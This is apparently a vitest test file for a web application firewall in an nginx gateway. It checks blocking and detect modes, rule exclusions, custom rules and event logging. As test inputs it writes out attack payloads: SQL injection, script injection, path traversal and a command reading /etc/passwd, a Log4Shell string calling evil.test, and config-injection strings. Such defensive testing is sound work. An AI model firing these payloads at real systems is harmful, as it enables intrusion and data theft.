/** The web application firewall in the real nginx: attacks, what isn't one, exclusions, own rules, and what is told of them. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GatewayIntent } from '#intent/gateway.ts';
import type { GatewayFirewall } from '#intent/gateway-policy.ts';
import { openSandbox, type Sandbox } from '#lab/sandbox.ts';
import { intentOf, type Site } from './cases.ts';
import { type Ask, openTestGateway, type TestGateway, until } from './testing-gateway.ts';

let box: Sandbox;
let gateway: TestGateway;

beforeAll(async () => {
  box = await openSandbox();
  gateway = await openTestGateway(box);
  await gateway.backends('a:9001', 'h:9101/h2c');
});
afterAll(async () => {
  await gateway?.close();
  await box?.close();
});

const block: GatewayFirewall = { mode: 'block', paranoia: 1, threshold: 5, exclusions: [] };
const detect: GatewayFirewall = { ...block, mode: 'detect' };
const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const jsonType = { 'Content-Type': 'application/json' };

/** Each host has a policy of its own; `open.test` none. */
async function protect(
  firewalls: Readonly<Record<string, GatewayFirewall>>,
  firewallRules: Readonly<Record<string, string>> = {},
  more: Partial<Site['routes']> = {},
): Promise<void> {
  const site = intentOf({
    backends: { a: ['127.0.0.1:9001'], h: { protocol: 'h2c', endpoints: ['127.0.0.1:9101'] } },
    routes: {
      'open.test/': 'a',
      ...Object.fromEntries(
        Object.keys(firewalls).map((host) => [`${host}/`, { to: 'a', policy: `WAFPolicy/shop/${host}` }]),
      ),
      ...(more as Site['routes']),
    },
  });
  const policies: GatewayIntent['policies'] = Object.fromEntries(
    Object.entries(firewalls).map(([host, firewall]) => [
      `WAFPolicy/shop/${host}`,
      { origins: [{ kind: 'WAFPolicy', namespace: 'shop', name: host }], firewall },
    ]),
  );
  await gateway.hold({
    ...site,
    policies,
    firewallRules: Object.fromEntries(
      Object.entries(firewallRules).map(([key, rules]) => [
        key,
        { origin: { kind: 'ConfigMap', namespace: 'shop', name: key }, rules },
      ]),
    ),
  });
}
const status = async (path: string, ask: Ask = {}) =>
  (await gateway.ask(path, { host: 'block.test', ...ask })).status;

type Event = {
  readonly route: string;
  readonly rule?: string;
  readonly result: string;
  readonly status?: number;
  readonly cause?: string;
  readonly path: string;
  readonly findings?: readonly {
    readonly id: number;
    readonly tags?: readonly string[];
    readonly matched: string;
  }[];
};

/** The event of a request to a path that no other request of the file has. */
async function eventOf(path: string): Promise<Event> {
  let event: Event | undefined;
  await until(
    async () => {
      const lines = gateway.events().split('\n').slice(0, -1);
      event = lines.map((line) => JSON.parse(line) as Event).find((each) => each.path === path);
      return event !== undefined;
    },
    () => `no event of ${path}: ${gateway.events()}`,
  );
  return event!;
}

describe('attacks', () => {
  beforeAll(() => protect({ 'block.test': block, 'detect.test': detect }));

  const attacks: readonly (readonly [string, string, Ask])[] = [
    ['SQL in a query', "/?q=1'%20OR%201=1--%20", {}],
    ['a script in a query', '/?q=<script>alert(1)</script>', {}],
    ['a way out of the directory in a query', '/?file=../../../../etc/passwd', {}],
    ['a command in a query', '/?q=;cat%20/etc/passwd', {}],
    ['Log4Shell in a header', '/', { headers: { 'User-Agent': '\x24{jndi:ldap://evil.test/a}' } }],
    ['SQL in a form', '/', { body: "q=1' OR 1=1-- ", headers: form }],
    ['a script in a form', '/', { body: 'q=<script>alert(1)</script>', headers: form }],
    ['a script in JSON', '/', { body: '{"a":{"b":["<script>alert(1)</script>"]}}', headers: jsonType }],
    [
      'SQL in JSON of its own kind',
      '/',
      { body: `{"a":"1' OR 1=1-- "}`, headers: { 'Content-Type': 'application/vnd.api+json' } },
    ],
    ['SQL in chunks', '/', { body: "q=1' OR 1=1-- ", headers: { ...form, 'Transfer-Encoding': 'chunked' } }],
    [
      'SQL over HTTP/2 without a length',
      '/',
      {
        body: "q=1' OR 1=1-- ",
        headers: { ...form, 'Content-Length': '' },
        curl: ['--http2-prior-knowledge'],
      },
    ],
    ['SQL in the body of a GET', '/', { method: 'GET', body: "q=1' OR 1=1-- ", headers: form }],
    [
      'one at the end of a body that lies on disk',
      '/',
      { body: `q=${'a'.repeat(100_000)}<script>alert(1)</script>`, headers: form },
    ],
    ['an attribute in a query', '/?q=%22%20onmouseover%3Dalert(1)%20x%3D%22', {}],
    ['a picture in a form', '/', { body: 'q=<img src=x onerror=alert(1)>', headers: form }],
    ['a script in a cookie', '/', { headers: { Cookie: 'a=<script>alert(1)</script>' } }],
    ['a scanner', '/', { headers: { 'User-Agent': 'sqlmap/1.7' } }],
    ['one behind other encodings', '/?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E', {}],
  ];
  it.each(attacks)('%s: blocked, and only seen where it is only looked for', async (_name, path, ask) => {
    expect(await status(path, ask)).toBe(403);
    expect(await status(path, { ...ask, host: 'detect.test' })).toBe(200);
    expect(await status(path, { ...ask, host: 'open.test' })).toBe(200);
  });

  const fine: readonly (readonly [string, string, Ask])[] = [
    ['a page', '/shop/items?page=2&sort=name', {}],
    ['a form', '/', { body: 'name=Ada+Lovelace&town=London', headers: form }],
    ['JSON', '/', { method: 'PUT', body: '{"name":"Ada","tags":["a","b"]}', headers: jsonType }],
    [
      'a patch',
      '/',
      { method: 'PATCH', body: '{"name":null}', headers: { 'Content-Type': 'application/merge-patch+json' } },
    ],
    ['a file', '/', { curl: ['-F', 'file=@/bin/true'] }],
    ['a page over HTTP/2', '/shop', { curl: ['--http2-prior-knowledge'] }],
    [
      'a form over HTTP/2 without a length',
      '/',
      {
        body: 'name=Ada',
        headers: { ...form, 'Content-Length': '' },
        curl: ['--http2-prior-knowledge'],
      },
    ],
    ['a form in chunks', '/', { body: 'name=Ada', headers: { ...form, 'Transfer-Encoding': 'chunked' } }],
    ['HTTP/1.0', '/', { curl: ['--http1.0'] }],
    ['a part of a page', '/', { headers: { Range: 'bytes=0-1' } }],
  ];
  it.each(fine)('%s: passes, body and all', async (_name, path, ask) => {
    const echo = await gateway.echo(path, { host: 'block.test', ...ask });
    expect(echo.name).toBe('a');
    if (ask.body !== undefined) expect(echo.length).toBe(ask.body.length);
  });
});

describe('bodies', () => {
  beforeAll(() => protect({ 'block.test': block, 'detect.test': detect }));

  it('that are too long to look at end there, whether their length is said or not', async () => {
    const body = `q=${'a'.repeat(1_100_000)}`;
    const chunked = { ...form, 'Transfer-Encoding': 'chunked' };
    expect(await status('/', { body, headers: form })).toBe(413);
    expect(await status('/', { body, headers: chunked })).toBe(413);
    expect(await status('/', { body, headers: form, host: 'detect.test' })).toBe(200);
    expect(await status('/', { body, headers: chunked, host: 'detect.test' })).toBe(200);
  });

  it('with more arguments than anybody needs are refused before they cost anything', async () => {
    expect(await status('/', { body: 'a=1&'.repeat(20_000), headers: form })).toBe(400);
    expect(await status('/', { body: `[${'1,'.repeat(20_000)}1]`, headers: jsonType })).toBe(400);
  });

  it('cost no more than they are long: 8 kB of `<` would take a worker for a minute', async () => {
    expect(await status('/', { body: `q=${'<'.repeat(8000)}`, headers: form })).toBe(200);
    expect(await status('/', { headers: { Cookie: 'a=b; '.repeat(1000) } })).toBe(400);
  });

  it('hide nothing behind what a rule can not look through, and long texts are fine', async () => {
    const command = 'ping -c1 192.0.2.1';
    for (const [sent, expected] of [
      [`${'a=b '.repeat(1000)}${command}`, 403],
      [`${'('.repeat(100_000)}${command}`, 400],
      [
        'Whoever attaches a policy says what holds for all that is behind it, and nothing else. '.repeat(500),
        200,
      ],
    ] as const)
      expect(
        await status('/', { body: `q=${encodeURIComponent(sent)}`.slice(0, 129_000), headers: form }),
      ).toBe(expected);
  });

  it('that are not what they say are refused', async () => {
    expect(await status('/', { body: '{"a":', headers: jsonType })).toBe(400);
  });
});

describe('what a policy says', () => {
  it('is its own: paranoia, threshold, exclusions by rule, range, tag and target', async () => {
    const attack = "/?comment=1'%20OR%201=1--%20";
    const cases: Readonly<Record<string, readonly [Partial<GatewayFirewall>, number]>> = {
      'block.test': [{}, 403],
      'threshold.test': [{ threshold: 1000 }, 200],
      'rule.test': [{ exclusions: [{ rules: ['942100'] }] }, 200],
      'range.test': [{ exclusions: [{ rules: ['942000-942999'] }] }, 200],
      'tag.test': [{ exclusions: [{ tags: ['attack-sqli'] }] }, 200],
      'target.test': [{ exclusions: [{ rules: ['942000-942999'], target: 'ARGS:comment' }] }, 200],
      'everywhere.test': [{ exclusions: [{ target: 'ARGS:comment' }] }, 200],
      'other-target.test': [{ exclusions: [{ target: 'ARGS:other' }] }, 403],
      'other-rule.test': [{ exclusions: [{ rules: ['941000-941999'] }] }, 403],
      'machinery.test': [{ exclusions: [{ rules: ['1-200999', '900000-901999', '949000-949999'] }] }, 403],
      // What decides has this tag, too.
      'machinery-tag.test': [{ exclusions: [{ tags: ['attack-generic'] }] }, 403],
    };
    await protect(
      Object.fromEntries(Object.entries(cases).map(([host, [more]]) => [host, { ...block, ...more }])),
    );
    for (const [host, [, expected]] of Object.entries(cases))
      expect([host, await status(attack, { host })]).toEqual([host, expected]);
    // What is left out for one field is looked for in the next.
    expect(await status("/?x=1'%20OR%201=1--%20", { host: 'target.test' })).toBe(403);
    expect(await status('/?q=<script>alert(1)</script>', { host: 'tag.test' })).toBe(403);
  });

  it('counts from the next request on, without a reload', async () => {
    const asked = () => status('/?q=<script>alert(1)</script>');
    await protect({ 'block.test': block });
    expect(await asked()).toBe(403);
    await protect({ 'block.test': detect });
    expect(await asked()).toBe(200);
    await protect({ 'block.test': { ...block, exclusions: [{ tags: ['attack-xss'] }] } });
    expect(await asked()).toBe(200);
    await protect({ 'block.test': { ...block, paranoia: 2 } });
    expect(await asked()).toBe(403);
  });

  it('that can not be said lets nobody in', async () => {
    await protect({
      'block.test': { ...block, exclusions: [{ tags: ['x"\nSecRuleEngine Off'] }] },
      'two.test': { ...block, exclusions: [{ target: 'ARGS:x"\nSecRuleEngine Off' }] },
      'three.test': { ...block, rules: ['shop/missing'] },
      'four.test': block,
    });
    for (const host of ['block.test', 'two.test', 'three.test'])
      expect([host, await status('/', { host })]).toEqual([host, 500]);
    expect(await status('/', { host: 'four.test' })).toBe(200);
  });
});

describe('own rules', () => {
  it('hold for those that name them, and a bad one breaks nobody else', async () => {
    const rules = (text: string) =>
      `SecRule ARGS:item "@streq ${text}" "id:101,phase:2,deny,status:403,log,msg:'no',t:none"\n`;
    await protect(
      {
        'block.test': { ...block, rules: ['shop/one'] },
        'two.test': { ...block, rules: ['shop/two'] },
        'bad.test': { ...block, rules: ['shop/bad'] },
        'none.test': block,
        'detect.test': { ...detect, rules: ['shop/one'] },
        'excluded.test': { ...block, rules: ['shop/one'], exclusions: [{ rules: ['101'] }] },
      },
      { 'shop/one': rules('gold'), 'shop/two': rules('silver'), 'shop/bad': 'SecNothing "x"\n' },
    );
    expect(await status('/?item=gold')).toBe(403);
    expect(await status('/?item=silver')).toBe(200);
    expect(await status('/?item=gold', { host: 'two.test' })).toBe(200);
    expect(await status('/?item=silver', { host: 'two.test' })).toBe(403);
    expect(await status('/?item=gold', { host: 'none.test' })).toBe(200);
    expect(await status('/?item=gold', { host: 'detect.test' })).toBe(200);
    expect(await status('/?item=gold', { host: 'excluded.test' })).toBe(200);
    expect(await status('/', { host: 'bad.test' })).toBe(500);
  });
});

describe('what is told', () => {
  beforeAll(() => protect({ 'block.test': block, 'detect.test': detect }));

  it('is one line of JSON with the route, rules, tags and what matched', async () => {
    await status('/told-1?q=<script>alert(1)</script>');
    const event = await eventOf('/told-1');
    expect(event).toMatchObject({ route: 'HTTPRoute/shop/web1', rule: 'spec.rules[0]' });
    expect(event).toMatchObject({ result: 'blocked', status: 403 });
    const xss = event.findings?.find(({ id }) => id === 941110);
    expect(xss?.tags).toContain('attack-xss');
    expect(xss?.matched).toBe('ARGS:q: <script>');
    expect(JSON.stringify(event)).not.toContain('alert(1)');
  });

  it('is told of what is only looked for, too', async () => {
    await status('/told-2', {
      host: 'detect.test',
      body: `x=${'y'.repeat(50_000)}<script>alert(1)</script>`,
      headers: form,
    });
    const event = await eventOf('/told-2');
    expect(event.result).toBe('detected');
    expect(event.findings?.map(({ id }) => id)).toContain(941110);
    expect(JSON.stringify(event)).not.toContain('yyy');
  });

  it('has no secrets', async () => {
    await status("/told-3?password=hunter2'%20OR%201=1--%20");
    expect(JSON.stringify(await eventOf('/told-3'))).not.toContain('hunter2');
  });

  it('can not be made up by who is told of', async () => {
    await status(
      `/told-4"] [hostname "x"]?q=%22%5D%20[file%20"x"] [line "1"] [id "5"] [tag "attack-none"]<script>`.replaceAll(
        ' ',
        '%20',
      ),
      { curl: ['-g'] },
    );
    const event = await eventOf('/told-4"]%20[hostname%20"x"]');
    const ids = event.findings?.map(({ id }) => id) ?? [];
    expect(ids).toContain(941110);
    expect(ids).not.toContain(5);
    expect(JSON.stringify(event)).not.toContain('attack-none"');
  });
});

describe('what is no document', () => {
  it('passes: the beginning of a WebSocket, and calls of gRPC, of which the head is looked at', async () => {
    await protect(
      { 'block.test': block },
      {},
      { 'grpc.test/': { to: 'h', kind: 'grpc', policy: 'WAFPolicy/shop/block.test' } },
    );
    const script = `
      const socket = require('net').connect(10000, '127.0.0.1');
      socket.write('GET /ws HTTP/1.1\\r\\nHost: block.test\\r\\nUser-Agent: x\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: eA==\\r\\n\\r\\n');
      socket.once('data', (text) => { console.log(String(text)); process.exit(); });
    `;
    const { stdout } = await box.exec(['/opt/node/bin/node', '-e', script], { timeoutMs: 5_000 });
    expect(stdout).toContain('101 Switching Protocols');
    const call = {
      host: 'grpc.test',
      method: 'POST',
      headers: { 'Content-Type': 'application/grpc', TE: 'trailers' },
      body: "\0\0\0\0\x05' OR 1",
      curl: ['--http2-prior-knowledge'],
    };
    expect((await gateway.echo('/shop.Cart/Add', call)).name).toBe('h');
    const attack = {
      ...call,
      headers: {
        ...call.headers,
        'x-name': '<script>alert(1)</script>',
        Cookie: 'a=<script>alert(1)</script>',
      },
    };
    expect((await gateway.ask('/shop.Cart/Add', attack)).headers['grpc-status']).toBe('7');
  });
});
